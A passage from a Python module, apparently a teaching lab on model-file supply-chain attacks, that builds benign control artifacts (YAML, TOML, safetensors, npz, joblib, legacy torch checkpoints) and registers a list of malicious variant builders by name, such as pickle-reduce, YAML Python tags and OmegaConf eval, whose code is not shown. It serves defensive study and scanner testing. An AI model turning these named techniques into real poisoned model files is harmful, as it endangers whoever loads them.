    _tar(p, {"model_config.yaml": _yaml(_model_cfg()), "model_weights.ckpt": tmp.read_bytes()},
         gz=True)
    tmp.unlink()
    return p


@_b("yaml_hparams", "config", "config", "plain hyper-parameters whose first byte is 'c' "
    "(the protocol-0 GLOBAL opcode)")
def _c_hparams(root, marker, rng):
    p = root / "hparams.yaml"
    p.write_text("channels: 3\nlr: 0.1\nepochs: 5\n")
    return p


@_b("readme", "text", "config", "a model card in Markdown")
def _c_readme(root, marker, rng):
    p = root / "README.md"
    p.write_text("# TinyNet\n\nA 2-layer MLP trained on toy data.\n\n- lr: 0.1\n")
    return p



@_b("legacy_state_dict", "torch", "pickle", "legacy (non-zip) torch checkpoint: five "
    "stacked pickles, then raw storage bytes")
def _c_legacy(root, marker, rng):
    import torch

    p = root / "legacy.pt"
    sd = {"fc1.weight": _tensor(rng, 8, 4), "fc1.bias": _tensor(rng, 8),
          "steps": torch.arange(5), "half": _tensor(rng, 3).half()}
    torch.save(sd, p, _use_new_zipfile_serialization=False)
    return p


@_b("legacy_state_dict_large", "torch", "pickle", "legacy torch checkpoint with 200k "
    "random floats (storage bytes that look like anything)")
def _c_legacy_large(root, marker, rng):
    import torch

    p = root / "legacy_large.pt"
    torch.save({"big": _tensor(rng, 200_000)}, p, _use_new_zipfile_serialization=False)
    return p


@_b("safetensors_large", "safetensors", "config", "safetensors with 1M random floats")
def _c_st_large(root, marker, rng):
    from safetensors.numpy import save_file

    p = root / "large.safetensors"
    save_file({"w": rng.standard_normal(1_000_000).astype(np.float32),
               "b": rng.standard_normal(8).astype(np.float16)}, str(p),
              metadata={"format": "pt", "note": "${not an interpolation"})
    return p


@_b("npz_odd_dtypes", "numpy", "pickle", ".npz: big-endian ints, unicode, bytes, bool, "
    "complex, datetime, Fortran order, a structured dtype with a field named 'Obs'")
def _c_npz_odd(root, marker, rng):
    p = root / "odd.npz"
    rec = np.zeros(3, dtype=[("Obs", "<f4"), ("Order", ">i2")])
    np.savez(p, be=np.arange(4, dtype=">i8"), u=np.array(["ab", "cde"]),
             s=np.array([b"x", b"yz"]), b=np.array([True, False]), c=np.ones(2, np.complex64),
             t=np.array(["2024-01-01"], dtype="M8[s]"),
             f=np.asfortranarray(rng.standard_normal((3, 2))), rec=rec)
    return p


@_b("npy_descr_spelling", "numpy", "pickle", ".npy whose header spells the dtype "
    "'float32' (not '<f4')")
def _c_npy_word(root, marker, rng):
    p = root / "spelled.npy"
    p.write_bytes(_npy_with_descr("float32", None, shape=(3,),
                                  data=np.arange(3, dtype="<f4").tobytes()))
    return p


@_b("joblib_zlib_plain", "joblib", "pickle", "joblib zlib file of plain Python data")
def _c_joblib(root, marker, rng):
    p = root / "plain.joblib"
    _joblib(p, {"lr": 0.1, "layers": [4, 8, 2], "name": "tiny"}, ("zlib", 3))
    return p


@_b("yaml_multidoc", "config_all", "config", "two ordinary YAML documents with "
    "allow-listed _target_s")
def _c_multidoc(root, marker, rng):
    p = root / "two_stages.yaml"
    p.write_bytes(_yaml(_model_cfg()) + b"---\n" + _yaml(_model_cfg({"name": "second"})))
    return p


@_b("toml_plain", "config", "config", "a TOML config with an allow-listed _target_")
def _c_toml(root, marker, rng):
    p = root / "tiny.toml"
    p.write_text('name = "tiny"\n\n[model]\n_target_ = "labkit.supplychain.zoo.TinyNet"\n'
                 "in_features = 4\nhidden = 8\nn_classes = 2\n")
    return p


@_b("omegaconf_safe", "config", "config", "OmegaConf interpolations that only read: a node "
    "reference and ${oc.env:...} with a default")
def _c_oc_safe(root, marker, rng):
    p = root / "interp.yaml"
    cfg = _model_cfg({"width": 8, "cache": "${oc.env:LABKIT_NO_SUCH_VAR,/tmp}"})
    cfg["model"]["hidden"] = "${width}"
    p.write_bytes(_yaml(cfg))
    return p


@_b("yaml_utf16_plain", "config", "config", "plain hyper-parameters in UTF-16 with a BOM")
def _c_yaml_utf16(root, marker, rng):
    p = root / "hparams16.yaml"
    p.write_bytes("lr: 0.1\nepochs: 5\n".encode("utf-16"))
    return p


MALICIOUS: dict[str, Callable] = {f.spec[0]: f for f in [
    _v_torch_reduce, _v_p0, _v_p2, _v_p4, _v_p5, _v_memo, _v_dup, _v_getattr, _v_inst,
    _v_obj, _v_nested, _v_broken, _v_stacked, _v_zip_odd, _v_npy, _v_npz, _v_nemo_ckpt,
    _v_yaml_open, _v_yaml_wt, _v_json, _v_st_json, _v_st_lit, _v_nemo_yaml, _v_partial,
    _v_reexport, _v_alias, _v_pytag,
    _v_int_base0, _v_long_line, _v_no_stop, _v_after_benign, _v_tar_pickle, _v_yaml_pickle,
    _v_yaml_pickle_cfg, _v_npy_word, _v_npy_struct, *_v_joblib, _v_zip_prefix, _v_tar_v7,
    _v_st_huge, _v_multidoc, _v_multidoc_tag, _v_deep, _v_json_utf16, _v_yaml_utf16, _v_toml,
    _v_oc_create, _v_oc_eval]}
"""Malicious variant builders, by name."""

BENIGN: dict[str, Callable] = {f.spec[0]: f for f in [
    _c_state_dict, _c_rich, _c_large, _c_npy, _c_npz, _c_np_p2, _c_np_p5, _c_st, _c_st_meta,
    _c_yaml, _c_json, _c_nemo, _c_hparams, _c_readme,
    _c_legacy, _c_legacy_large, _c_st_large, _c_npz_odd, _c_npy_word, _c_joblib, _c_multidoc,
    _c_toml, _c_oc_safe, _c_yaml_utf16]}
"""Benign control builders, by name."""


def build(name: str, root: Path | str, *, rng=None) -> Artifact:
    """Build one artifact (malicious or benign) by variant name in its own sub-folder.

    Parameters
    ----------
    name : str
        A key of :data:`MALICIOUS` or :data:`BENIGN`.
    root : path-like
        A folder this lesson created (e.g. :func:`make_workdir`).
    rng : numpy.random.Generator or int, optional
        Seed for the random tensors.

    Returns
    -------
    Artifact
    """
    if name in MALICIOUS:
        fn, malicious = MALICIOUS[name], True
    elif name in BENIGN:
        fn, malicious = BENIGN[name], False
    else:
        raise KeyError(f"unknown variant {name!r}")
    rng = np.random.default_rng(rng)
    folder = Path(root) / name
    folder.mkdir(parents=True, exist_ok=False)
    marker = folder / f"CANARY-{name}"
    path = fn(folder, marker, rng)
    _, loader, carrier, description = fn.spec
    return Artifact(name, path, loader, malicious, carrier, marker if malicious else None,
                    description)


def build_corpus(root: Path | str | None = None, *, rng=None,
                 names: list[str] | None = None) -> list[Artifact]:
    """Build every malicious variant and benign control (or just ``names``).

    Parameters
    ----------
    root : path-like, optional
        Defaults to a fresh :func:`make_workdir`.
    rng : numpy.random.Generator or int, optional
    names : list of str, optional

    Returns
    -------
    list of Artifact
        Malicious variants first, then benign controls.
    """
    root = make_workdir() if root is None else Path(root)
    rng = np.random.default_rng(rng)
    names = list(MALICIOUS) + list(BENIGN) if names is None else list(names)
    return [build(n, root, rng=rng) for n in names]


def select(artifacts: list[Artifact], *, names=None, malicious: bool | None = None) -> list[Artifact]:
    """The artifacts with the given names (in corpus order) and/or maliciousness.

    Examples
    --------
    >>> select([], malicious=True)
    []
    """
    wanted = None if names is None else set(names)
    if wanted is not None and not wanted <= {a.name for a in artifacts}:
        raise KeyError(f"not in the corpus: {sorted(wanted - {a.name for a in artifacts})}")
    return [a for a in artifacts if (wanted is None or a.name in wanted)
            and (malicious is None or a.malicious == malicious)]
